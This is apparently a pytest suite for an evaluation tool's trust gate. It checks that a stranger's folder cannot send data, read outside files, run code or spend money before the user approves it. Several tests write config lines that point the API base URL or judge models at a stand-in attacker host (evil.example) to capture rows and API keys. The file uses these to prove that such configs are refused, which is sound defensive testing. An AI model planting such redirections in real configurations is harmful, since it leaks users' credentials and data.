"""A stranger's folder: nothing of it is read, run, sent or spent before the one question; once it
is trusted, all of it works.
"""

from __future__ import annotations

import os
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import adjudge as adjudge_package
from adjudge.core.gateway.proxies import proxy_for
from adjudge.core.ledger.file import FILE, connect, write_meta
from adjudge.core.reading.types import keys_of
from adjudge.features.agents.kind import AgentEntry
from adjudge.features.conversations.kind import ConversationEntry
from adjudge.features.evidence.kind import EvidenceEntry
from adjudge.features.rag.kind import RagEntry
from adjudge.features.rubrics.kind import RubricEntry
from adjudge.runs.cli.main import main
from adjudge.runs.eval_file import (
    AspectEntry,
    CascadeEntry,
    CheckEntry,
    DataEntry,
    DirectEntry,
    EvalFile,
    Gates,
    JudgeEntry,
    PairwiseEntry,
    PanelEntry,
    PythonEntry,
)
from adjudge.runs.folder import run_info
from adjudge.runs.project import ExplainEntry, ModelEntry, Project, StepEntry
from adjudge.runs.target_entry import TargetEntry
from support import commands
from support.hostile_files import (
    DATA,
    ENVIRONMENT,
    EVIL,
    HOSTILE,
    JUDGE,
    KEY,
    PLAIN,
    ROWS,
    RUBRIC,
    SECRET,
    Hostile,
    Witness,
)

Adjudge = Callable[..., tuple[int, str]]
_NAMES = [one.name for one in HOSTILE]
_DOLLARS = 10_000_000
"""Tokens of each reply where spending is tried: about $1.50 for one of gpt-4o-mini."""


@pytest.fixture(scope="module")
def server() -> Iterator[Witness]:
    with Witness() as running:
        yield running


@pytest.fixture
def witness(server: Witness) -> Witness:
    """The server of the module, with nothing seen so far."""
    server.requests.clear()
    server.tokens = 10
    return server


@pytest.fixture
def environment(
    witness: Witness, untrusting: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    """Everything that leaves passes the witness."""
    proxy_for.cache_clear()  # an earlier test may have asked one of these addresses without it
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name.lower(), witness.address)
        monkeypatch.setenv(name, witness.address)
    monkeypatch.delenv("NO_PROXY", raising=False)
    monkeypatch.delenv("no_proxy", raising=False)
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    yield
    proxy_for.cache_clear()


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, environment: None) -> Path:
    """The stranger's, in which the user stands; the user's own is ``outside``, next to it."""
    outside, made = tmp_path / "outside", tmp_path / "theirs"
    outside.mkdir()
    made.mkdir()
    (outside / "secret.csv").write_text(f"id,response\n1,{SECRET}\n")
    (outside / "secret.txt").write_text(f"{SECRET} {{question}}")
    (outside / "own.yaml").write_text(RUBRIC.replace("Is it short?", SECRET))
    (made / "rows.csv").write_text(ROWS)
    monkeypatch.setenv("ADJUDGE_CACHE", str(tmp_path / "cache"))
    monkeypatch.chdir(made)
    (outside / "points.yaml").write_text(f"points: [{{text: {SECRET}, weight: 1}}]\n")
    return made


@pytest.fixture
def adjudge(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Adjudge:
    """A command in this process, without a terminal: its exit code and what it says."""

    # the question comes before the server, which may not be installed
    monkeypatch.setattr("adjudge.features.integrations.command.find_spec", lambda name: name)

    def run(*words: str) -> tuple[int, str]:
        monkeypatch.setattr(sys, "argv", ["adjudge", *words])
        before = dict(os.environ)
        with pytest.raises(SystemExit) as ended:
            main()
        for name in set(os.environ) - set(before):  # what .env has set, in a process of its own
            del os.environ[name]
        return int(ended.value.code or 0), "".join(capsys.readouterr())

    return run


def write(case: Hostile, folder: Path, witness: Witness) -> None:
    outside = str(folder.with_name("outside"))

    def told(text: str) -> str:
        return (
            text.replace("@EVIL@", EVIL)
            .replace("@LOOP@", witness.address)
            .replace("@OUT@", outside)
        )

    for name, text in case.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(told(text))
    for name, content in case.packed.items():
        (folder / name).write_bytes(content)
    for name, target in case.links.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(told(target))
    if case.expected == "limited":
        witness.tokens = _DOLLARS


def tree(folder: Path) -> set[Path]:
    return set(folder.rglob("*"))


@pytest.mark.parametrize("case", HOSTILE, ids=_NAMES)
def test_nothing_happens_before_the_question(
    case: Hostile, folder: Path, witness: Witness, adjudge: Adjudge, untrusting: Path
) -> None:
    write(case, folder, witness)
    before = tree(folder.parent)
    code, said = adjudge(*case.words)
    assert witness.elsewhere() == [], said
    assert not (folder / "canary").exists()
    assert tree(folder.with_name("outside")) <= before
    assert not any(SECRET in one for one in witness.requests)
    assert SECRET not in said
    assert KEY not in said
    assert "Traceback" not in said
    assert not list(untrusting.iterdir())
    if case.expected == "refused":
        assert code == 1, said
        assert "does more than an untrusted folder may" in said
        assert "adjudge trust" in said
        assert witness.requests == []
        assert tree(folder.parent) == before
    elif case.expected == "limited":
        assert code == 1, said
        assert "max_usd=5" in said
        assert len(witness.requests) <= 5
    else:
        assert code == case.code, said


@pytest.mark.parametrize(
    "case", [one for one in HOSTILE if one.expected != "harmless"], ids=lambda one: one.name
)
def test_a_trusted_folder_may_do_all_of_it(
    case: Hostile, folder: Path, witness: Witness, adjudge: Adjudge
) -> None:
    write(case, folder, witness)
    code, said = adjudge("trust", "." if "eval.json" not in case.files else "eval.json", "--yes")
    assert code == 0, said
    assert witness.requests == []
    assert not (folder / "canary").exists()
    if not case.starts:
        return
    if case.makes == "canary":  # code that was loaded stays loaded: in a process of its own
        done = commands.adjudge(*case.words)
        code, said = done.returncode, done.stderr
    else:
        code, said = adjudge(*case.words)
    assert code == case.code, said
    if case.sees:
        assert any(case.sees in one for one in witness.requests), said
    if case.makes:
        assert (folder / case.makes).exists(), said
    if case.expected == "limited" and not case.code:
        assert len(witness.requests) >= 12


def test_the_table_is_large_enough() -> None:
    assert len(HOSTILE) >= 60
    assert len(set(_NAMES)) == len(HOSTILE)


@pytest.mark.parametrize(
    "text",
    [
        PLAIN,
        PLAIN.replace("openai/gpt-4o-mini", "gpt-4o-mini"),
        PLAIN.replace("openai/gpt-4o-mini", "scripted/PASS"),
        PLAIN
        + "outputs: [results.csv, out/report.html]\nrun: runs/mine\ngates: {fail_under: 0.5}\n",
        PLAIN + "budget: {max_usd: 1, max_calls: 10}\n",
        PLAIN.replace("rows.csv", "./rows.csv"),
        "data: rows.csv\nmodels: openai/gpt-4o-mini\nprompts: p.txt\n"
        "target: {model: openai/gpt-4o-mini}\njudges: [{kind: aspect, criteria: It is short.}]\n",
        "data: rows.csv\nchecks: [{contains: e}, {regex: '.'}]\n",
    ],
)
def test_an_ordinary_file_needs_nothing(
    text: str, folder: Path, adjudge: Adjudge, untrusting: Path
) -> None:
    (folder / "p.txt").write_text("{question}")
    (folder / "adjudge.toml").write_text(
        'language = "en"\nmodel = "openai/gpt-4o-mini"\nmax_concurrency = 2\n'
    )
    (folder / "eval.yaml").write_text(text)
    code, said = adjudge("run", "eval.yaml")
    assert code == 0, said
    assert "trust" not in said
    assert not list(untrusting.iterdir())


def test_models_on_this_machine_need_nothing_without_a_key(
    folder: Path, witness: Witness, adjudge: Adjudge
) -> None:
    (folder / "eval.yaml").write_text(
        PLAIN.replace("openai/gpt-4o-mini", f"'{witness.address}/v1#m'")
    )
    code, said = adjudge("run", "eval.yaml")
    assert code == 0, said
    assert not any(KEY in one for one in witness.requests)


def test_a_run_folder_of_somebody_else_is_asked_about(
    folder: Path, witness: Witness, adjudge: Adjudge, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also if what it keeps says that the user agrees."""
    (folder / "eval.yaml").write_text(PLAIN.replace("openai/gpt-4o-mini", f"'{EVIL}#m'"))
    with monkeypatch.context() as theirs:
        theirs.setenv("ADJUDGE_CACHE", str(folder.with_name("their-cache")))
        words = ("attack", "eval.yaml", "--trust", "--run", "run", "--max-calls", "2")
        assert adjudge(*words)[0] == 1
    record: Any = run_info(folder / "run").facts["resume"]
    assert "yes" not in record["options"]
    options = {**record["options"], "yes": True, "trust": True, "max_calls": 100}
    with connect(folder / "run" / FILE) as ledger:
        write_meta(ledger, {"resume": {**record, "options": options}})
    witness.requests.clear()
    code, said = adjudge("resume", "run")
    assert code == 1
    assert "was not created by you" in said
    assert witness.requests == []
    assert adjudge("resume", "run", "--trust")[0] in (0, 3)
    assert witness.requests


def test_verdicts_of_a_run_folder_that_came_along_are_not_ours(
    folder: Path, adjudge: Adjudge, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They would stand behind a gate that passes; CI, which keeps its own elsewhere, trusts."""
    text = DATA + "models: scripted/PASS\n" + JUDGE
    (folder / "eval.yaml").write_text(text)
    with monkeypatch.context() as theirs:
        theirs.setenv("ADJUDGE_CACHE", str(folder.with_name("their-cache")))
        assert adjudge("run", "eval.yaml")[0] == 0
    before = (folder / "runs" / "eval" / FILE).stat().st_mtime_ns
    code, said = adjudge("run", "eval.yaml")
    assert code == 0
    assert "runs/eval was not created by you on this machine" in said
    assert (folder / "runs" / "eval-2" / FILE).exists()
    assert (folder / "runs" / "eval" / FILE).stat().st_mtime_ns == before
    assert run_info(folder / "runs" / "eval-2").facts["ended"] == "complete"
    adjudge("run", "eval.yaml")
    assert not (folder / "runs" / "eval-3").exists(), "its own is gone on with"
    (folder / "other.yaml").write_text(text)
    with monkeypatch.context() as theirs:
        theirs.setenv("ADJUDGE_CACHE", str(folder.with_name("their-cache")))
        assert adjudge("run", "other.yaml")[0] == 0
    for word in ("--trust", "--yes"):
        code, said = adjudge("run", "other.yaml", word)
        assert (code, "not created by you" in said) == (0, False)
    assert not (folder / "runs" / "other-2").exists()


def test_prices_of_a_run_folder_that_came_along_do_not_lift_a_limit(
    folder: Path, witness: Witness, adjudge: Adjudge, monkeypatch: pytest.MonkeyPatch
) -> None:
    spending = PLAIN.replace("criteria: It is short.", "criteria: It is short., strictness: 6")
    (folder / "eval.yaml").write_text(spending)
    (folder / "free.yaml").write_text("openai/gpt-4o-mini: {input: 0, output: 0}\n")
    with monkeypatch.context() as theirs:
        theirs.setenv("ADJUDGE_CACHE", str(folder.with_name("their-cache")))
        adjudge("run", "eval.yaml", "--prices", "free.yaml", "--max-calls", "1", "-j", "1")
    witness.tokens = _DOLLARS
    code, said = adjudge("run", "eval.yaml", "--max-usd", "4", "-j", "1")
    assert code == 1
    assert "max_usd=4" in said
    assert len(witness.requests) <= 6


def test_pytest_and_programs_refuse_it_too(folder: Path, witness: Witness) -> None:
    from adjudge import judge_partition
    from adjudge.errors import SetupError
    from adjudge.features.integrations.pytest_session import JudgingSession

    (folder / "eval.yaml").write_text(PLAIN.replace("openai/gpt-4o-mini", f"'{EVIL}#m'"))
    session = JudgingSession(root=folder, folder=folder / ".adjudge", process="main")
    with pytest.raises(SetupError, match=r"sends rows to http://evil\.example/v1 \(eval\.yaml"):
        session.run_file(Path("eval.yaml"), lambda reason: None)
    rows = [(0, {"response": "x"})]
    with pytest.raises(SetupError, match=r"adjudge trust eval\.yaml"):
        judge_partition(rows, "eval.yaml", folder / "store")
    assert witness.requests == []
    assert judge_partition(rows, "eval.yaml", folder / "store", trust=True).judgments == 1
    (folder / "adjudge.toml").write_text(f'base_url = "{EVIL}"\nmodel = "openai/gpt-4o-mini"\n')
    witness.requests.clear()
    other = JudgingSession(root=folder, folder=folder / ".adjudge", process="main")
    with pytest.raises(SetupError, match=r"\$OPENAI_API_KEY, .* to http://evil"):
        other.judge("It is short.", {"response": "x"}, 1, lambda reason: None)
    assert witness.requests == []


@pytest.mark.parametrize("model", ["scripted/PASS", "mistral/mistral-small-latest"])
def test_every_key_that_an_address_gets_is_named(
    model: str, folder: Path, witness: Witness, adjudge: Adjudge
) -> None:
    """A typed model is asked at the project's address, whatever the project's own is."""
    (folder / "adjudge.toml").write_text(f'base_url = "{EVIL}"\nmodel = "{model}"\n')
    words = ("check", "hello", "--criterion", "It is short.", "-m", "openai/gpt-4o-mini")
    code, said = adjudge(*words)
    assert code == 1
    said = said.replace("\n", "")
    assert "$OPENAI_API_KEY" in said
    assert "$GROQ_API_KEY" in said
    assert "no key" not in said
    assert adjudge("trust", "--yes")[0] == 0
    assert adjudge(*words)[0] == 0
    assert any(KEY in one for one in witness.elsewhere())


def test_a_program_spends_no_more_than_a_restricted_folder_may(
    folder: Path, witness: Witness
) -> None:
    from adjudge import judge_partition
    from adjudge.errors import BudgetSpent

    (folder / "eval.yaml").write_text(
        PLAIN.replace(
            "models: openai/gpt-4o-mini",
            "models: [{model: openai/gpt-4o-mini, max_concurrency: 1}]",
        )
    )
    witness.tokens = _DOLLARS
    rows = [(number, {"response": f"text {number}"}) for number in range(20)]
    with pytest.raises(BudgetSpent):
        judge_partition(rows, "eval.yaml", folder / "store", cache=False)
    assert len(witness.requests) <= 6


def test_what_is_remembered_is_the_users_alone(
    folder: Path, adjudge: Adjudge, untrusting: Path
) -> None:
    (folder / "eval.yaml").write_text(PLAIN.replace("openai/gpt-4o-mini", f"'{EVIL}#m'"))
    assert adjudge("trust", "eval.yaml", "--yes")[0] == 0
    kept = untrusting / "trusted.json"
    assert kept.stat().st_mode & 0o777 == 0o600
    assert not any(one.name == kept.name for one in tree(folder))
    _, said = adjudge("trust", "--list")
    assert f"{folder / 'eval.yaml'}: 2 needs" in said.replace("\n", "")
    assert adjudge("run", "eval.yaml")[0] == 0
    kept.chmod(0o666)  # others could have written it
    assert adjudge("run", "eval.yaml")[0] == 1
    kept.chmod(0o600)
    assert adjudge("trust", "--forget")[1].startswith("1 file is no longer trusted")
    assert adjudge("run", "eval.yaml")[0] == 1


def test_a_changed_file_is_asked_about_again(folder: Path, adjudge: Adjudge) -> None:
    text = PLAIN.replace("openai/gpt-4o-mini", f"'{EVIL}#m'")
    (folder / "eval.yaml").write_text(text)
    (folder / ".env").write_text("OTHER=1\n")
    assert adjudge("trust", "--yes")[0] == 0
    assert adjudge("run", "eval.yaml")[0] == 0
    (folder / "eval.yaml").write_text(text + "run: ../outside/run\n")
    code, said = adjudge("run", "eval.yaml")
    assert code == 1
    assert "\n  sends" in said
    assert "\n+ writes" in said
    assert "\n+ changed  eval.yaml" in said
    (folder / "eval.yaml").write_text(text)
    assert adjudge("run", "eval.yaml")[0] == 0
    (folder / ".env").write_text("OTHER=1\nMORE=2\n")
    code, said = adjudge("run", "eval.yaml")
    assert code == 1
    assert "MORE" in said
    assert "evil.example" not in said, "only what was changed is asked about"


def test_the_same_path_elsewhere_is_another_folder(
    folder: Path, adjudge: Adjudge, monkeypatch: pytest.MonkeyPatch
) -> None:
    (folder / "eval.yaml").write_text(PLAIN.replace("openai/gpt-4o-mini", f"'{EVIL}#m'"))
    assert adjudge("trust", "--yes")[0] == 0
    link = folder.with_name("linked")
    link.symlink_to(folder)
    assert adjudge("run", str(link / "eval.yaml"))[0] == 0, "its real path counts"
    copy = folder.with_name("copied")
    copy.mkdir()
    for name in ("eval.yaml", "rows.csv"):
        (copy / name).write_bytes((folder / name).read_bytes())
    assert adjudge("run", str(copy / "eval.yaml"))[0] == 1


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("adjudge.toml", f'base_url = "{EVIL}"\n'),
        ("pyproject.toml", f'[tool.adjudge]\nbase_url = "{EVIL}"\n'),
        (".env", "OTHER=1\n"),
    ],
)
def test_the_command_that_a_refusal_names_is_enough(
    name: str, text: str, folder: Path, adjudge: Adjudge
) -> None:
    (folder / "eval.yaml").write_text(PLAIN)
    (folder / name).write_text(text)
    code, said = adjudge("run", "eval.yaml")
    assert code == 1
    (command,) = set(re.findall("'adjudge (trust [^']+)'", said))
    assert adjudge(*command.split(), "--yes")[0] == 0
    assert adjudge("run", "eval.yaml")[0] == 0


_PLAIN_KEYS = {
    EvalFile: "language budget checks repeat on_bad_row gates data judges",
    DataEntry: "as format columns responses id limit encoding sheet header_row",
    Gates: "fail_under max max_failed confidence sequential margin cluster",
    JudgeEntry: "name votes temperature seed mode on_failure per after fail_under rows_with",
    PanelEntry: "",
    CascadeEntry: "otherwise",
    AspectEntry: "early_stop min_valid weights",
    DirectEntry: "early_stop check_positional_bias feedback persona",
    PairwiseEntry: "order check_positional_bias contests tie_enabled",
    RagEntry: "dimensions measures weights checks rewrite_questions early_stop evidence claims",
    EvidenceEntry: "method claims text_field source_field",
    AgentEntry: "measures order required forbidden before ignore arguments steps_tokens steps only "
    "derive blame compare kinds",
    CheckEntry: "threshold",
    RubricEntry: "rubric_field evidence show_points text_field context_fields themes_field",
    ConversationEntry: "session max_turns max_tokens max_usd max_seconds stop_at_state parallel "
    "from_turn role judge_user",
    PythonEntry: "options compares",
    ModelEntry: "temperature seed max_concurrency requests_per_minute tokens_per_minute timeout "
    "window reasoning_effort prompt_caching",
    StepEntry: "votes",
    ExplainEntry: "below",
    TargetEntry: "name method body tool answer contexts tool_calls state temperature "
    "max_concurrency requests_per_minute timeout max_retries",
    Project: "language max_concurrency",
}
"""Keys that can neither read, run, send nor write."""
_CHECKED_KEYS = {
    EvalFile: "models run outputs target prompts explain",
    DataEntry: "path",
    Gates: "not_worse_than",
    JudgeEntry: "kind models",
    PanelEntry: "replacement",
    CascadeEntry: "cascade calibration",
    AspectEntry: "criteria",
    DirectEntry: "criteria",
    PairwiseEntry: "criteria",
    RagEntry: "config",
    AgentEntry: "policy expect",
    CheckEntry: "checks",
    RubricEntry: "rubric",
    ConversationEntry: "user",
    PythonEntry: "judge criteria",
    ModelEntry: "model base_url api_key_env headers parameters",
    ExplainEntry: "calibration",
    TargetEntry: "model command url function mcp prompts base_url api_key_env headers",
    Project: "model base_url api_key_env headers prices",
}
"""Keys that ``needs_of_eval`` and ``needs_of_project`` look at."""


@pytest.mark.parametrize("kind", _PLAIN_KEYS, ids=lambda kind: kind.__name__)
def test_somebody_has_thought_about_every_key(kind: type) -> None:
    """A new key of a file is put into one of the two tables, and looked at if it is no plain
    one.
    """
    known = [
        key
        for table in (_PLAIN_KEYS, _CHECKED_KEYS)
        for one in kind.__mro__
        for key in table.get(one, "").split()
    ]
    assert set(keys_of(kind)) == set(known)


def test_nobody_opens_an_eval_file_or_a_project_by_another_way() -> None:
    """All that runs a file goes through ``trusted_folders``; these read a file, or its language."""
    source = Path(adjudge_package.__file__).parent
    users = {
        str(path.relative_to(source)): set(
            re.findall(
                r"\b(load_eval|parse_eval|read_eval_text|find_project|EnvFile)\(?", path.read_text()
            )
        )
        for path in source.rglob("*.py")
    }
    readers = {"load_eval", "parse_eval", "read_eval_text"}
    assert {name for name, found in users.items() if found & readers} == {
        "features/integrations/eval_run.py",  # the mapping of a program, which is its own code
        "runs/eval_file.py",
        "runs/trusted_folders.py",
    }
    assert {name for name, found in users.items() if "EnvFile" in found} == {
        "runs/cli/run.py",
        "runs/cli/trust.py",
        "runs/restrictions.py",
        "runs/trusted_folders.py",
        "runs/variables.py",
    }
    assert {name for name, found in users.items() if "find_project" in found} == {
        "features/doctor/command.py",
        "features/integrations/eval_run.py",
        "features/starters/command.py",
        "runs/cli/file_watch.py",
        "runs/cli/output.py",
        "runs/cli/trust.py",
        "features/integrations/pytest_session.py",
        "features/scale/partition.py",
        "runs/project.py",
        "runs/trusted_folders.py",
        "web/pages/start.py",
        "web/site.py",
    }


def test_init_trusts_what_it_writes(folder: Path, adjudge: Adjudge) -> None:
    assert adjudge("init", "examples")[0] == 0
    code, said = adjudge("run", "examples/target/eval.yaml", "--dry-run")
    assert code == 0, said


def test_init_does_not_trust_what_was_there(folder: Path, adjudge: Adjudge) -> None:
    (folder / "examples" / "target").mkdir(parents=True)
    (folder / "examples" / "target" / "application.py").write_text("import os\n")
    assert adjudge("init", "examples")[0] == 0
    assert adjudge("run", "examples/target/eval.yaml", "--dry-run")[0] == 1


@pytest.mark.skipif(os.name != "posix", reason="it has no terminals to open")
@pytest.mark.parametrize(("answer", "code"), [("y", 0), ("n", 1)])
def test_a_yes_at_the_terminal_is_enough(
    answer: str, code: int, folder: Path, witness: Witness, untrusting: Path
) -> None:
    import pty

    (folder / "eval.yaml").write_text(PLAIN.replace("openai/gpt-4o-mini", f"'{EVIL}#m'"))
    ours, theirs = pty.openpty()
    os.write(ours, f"{answer}\n".encode())
    done = commands.adjudge("run", "eval.yaml", terminal=os.ttyname(theirs))
    os.close(ours)
    os.close(theirs)
    assert done.returncode == code, done.stderr
    assert "Trust it? [y/N]" in done.stderr
    assert bool(witness.requests) is (answer == "y")
    assert bool(list(untrusting.iterdir())) is (answer == "y")


def test_the_screen_shows_plain_characters_and_all_that_is_run_or_sent(
    folder: Path, adjudge: Adjudge
) -> None:
    """A tab, or hundreds of files, would move what is sent out of sight."""
    judges = "".join(
        f"- {{kind: aspect, models: ['http://evil.example/{number}/v1#m'], "
        "criteria: [It is good.]}\n"
        for number in range(40)
    )
    checks = "".join(f"- {{json: {{schema: ../outside/{each}.json}}}}\n" for each in range(40))
    (folder / "eval.yaml").write_text(
        f"data: rows.csv\nmodels: [scripted]\nchecks:\n{checks}"
        f"target: {{command: [\"a\\tb\\u00a0\\u200bc\", '{'x' * 5000}']}}\njudges:\n{judges}"
    )
    code, said = adjudge("run", "eval.yaml")
    assert code == 1
    lines = said.splitlines()
    assert sum(line.startswith("  sends") for line in lines) == 40
    assert sum("/outside/" in line for line in lines) == 20
    assert "  reads   … and 20 more" in lines
    (runs,) = (line for line in lines if line.startswith("  runs"))
    assert "a�b��c x" in runs
    assert runs.endswith("more characters, see the file)")
    assert lines.index(runs) > lines.index("  reads   … and 20 more")
    assert "\t" not in said


def test_one_need_with_many_places_is_one_line(folder: Path, adjudge: Adjudge) -> None:
    judges = f"- {{kind: aspect, models: ['{EVIL}#m'], criteria: [It is good.]}}\n" * 40
    (folder / "eval.yaml").write_text(f"data: rows.csv\njudges:\n{judges}")
    _, said = adjudge("run", "eval.yaml")
    assert said.count("evil.example") == 1
    assert "(eval.yaml: judges[1].models[1] and 39 more places)" in said


def test_code_that_changes_while_the_user_is_asked_is_not_run(folder: Path) -> None:
    from adjudge.errors import SetupError
    from adjudge.runs.trusted_folders import asking, open_eval

    code = folder / "app.py"
    code.write_text("def answer(row):\n    return 'good'\n")
    (folder / "eval.yaml").write_text(f"{PLAIN}\ntarget: app.py:answer\n")

    def agree_late(_: object) -> None:
        code.write_text("def answer(row):\n    return 'evil'\n")

    with asking(agree_late), pytest.raises(SetupError, match="changed during the question"):
        open_eval(folder / "eval.yaml")


def test_jobs_of_the_page_import_nothing_of_the_folder() -> None:
    from adjudge.web.jobs import _PYTHON, _WORKER

    assert _PYTHON[1] == _WORKER[1] == "-P"
